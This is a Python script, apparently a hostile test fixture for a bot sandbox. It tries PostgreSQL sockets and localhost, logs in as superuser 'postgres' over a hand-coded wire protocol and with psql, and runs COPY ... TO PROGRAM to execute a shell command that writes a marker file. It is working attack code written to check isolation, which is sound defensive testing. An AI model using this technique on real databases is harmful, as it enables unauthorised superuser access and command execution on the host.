"""Hostile: a command bot that reaches PostgreSQL through a socket its command line names.

Run as ``python3 attack.py [PATH…]`` from a ``bot.toml``, it tries PostgreSQL's Unix socket in
each directory its arguments name (PostgreSQL's pid or lock file beside the socket, issue 29),
the usual socket directories and TCP 127.0.0.1:5432, as the superuser ``postgres`` with the
wire protocol by hand, then ``psql``. Reached, it creates the table ``sixnimmt_marker_TOKEN``
and runs ``COPY (SELECT 'marker') TO PROGRAM 'cat > /tmp/sixnimmt-marker-TOKEN'``: a shell
command on the host. It prints one JSON line: each target and what happened. ``TOKEN`` is its
first argument that is not a path.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import subprocess
import sys

SOCKET = ".s.PGSQL.5432"


def attack_sql(token: str) -> str:
    return (
        f"CREATE TABLE IF NOT EXISTS sixnimmt_marker_{token} (x text);"
        f" INSERT INTO sixnimmt_marker_{token} VALUES ('marker');"
        f" COPY (SELECT 'marker') TO PROGRAM 'cat > /tmp/sixnimmt-marker-{token}'"
    )


def query(connection: socket.socket, sql: str) -> str:
    """Log in as postgres to the database test (trust) and run ``sql``; what the server said."""
    body = struct.pack("!I", 196608) + b"user\0postgres\0database\0test\0\0"
    connection.sendall(struct.pack("!I", len(body) + 4) + body)
    said = _until_ready(connection)
    if said:
        return said
    text = sql.encode() + b"\0"
    connection.sendall(b"Q" + struct.pack("!I", len(text) + 4) + text)
    return _until_ready(connection) or "ran"


def _until_ready(connection: socket.socket) -> str:
    buffer = b""
    while True:
        while len(buffer) < 5:
            chunk = connection.recv(65536)
            if not chunk:
                return "closed"
            buffer += chunk
        kind, size = buffer[:1], struct.unpack("!I", buffer[1:5])[0]
        while len(buffer) < 1 + size:
            buffer += connection.recv(65536)
        message, buffer = buffer[5 : 1 + size], buffer[1 + size :]
        if kind == b"R" and struct.unpack("!I", message[:4])[0] != 0:
            return "needs a password"
        if kind == b"E":
            return "error: " + message.decode(errors="replace")
        if kind == b"Z":
            return ""


def main(args: list[str]) -> dict[str, str]:
    token = next(arg for arg in args if "/" not in arg)
    directories = {"/var/run/postgresql", "/run/postgresql", "/tmp"}
    for arg in args:
        if "/" in arg:
            directories.add(arg if os.path.isdir(arg) else os.path.dirname(arg))
    said = {}
    targets: list[tuple[str, tuple[str, int] | None]] = [
        (os.path.join(d, SOCKET), None) for d in sorted(directories)
    ]
    targets.append(("127.0.0.1:5432", ("127.0.0.1", 5432)))
    for label, address in targets:
        family = socket.AF_UNIX if address is None else socket.AF_INET
        try:
            with socket.socket(family, socket.SOCK_STREAM) as connection:
                connection.settimeout(10)
                connection.connect(label if address is None else address)
                said[label] = query(connection, attack_sql(token))
        except OSError as exc:
            said[label] = type(exc).__name__
    for directory in sorted(directories):
        try:
            done = subprocess.run(
                ["psql", "-h", directory, "-U", "postgres", "-d", "test", "-c", attack_sql(token)],
                capture_output=True, text=True, timeout=20, check=False,
            )  # fmt: skip
            said[f"psql -h {directory}"] = f"status {done.returncode}"
        except (OSError, subprocess.SubprocessError) as exc:
            said[f"psql -h {directory}"] = type(exc).__name__
    return said


if __name__ == "__main__":
    print(json.dumps(main(sys.argv[1:])), flush=True)
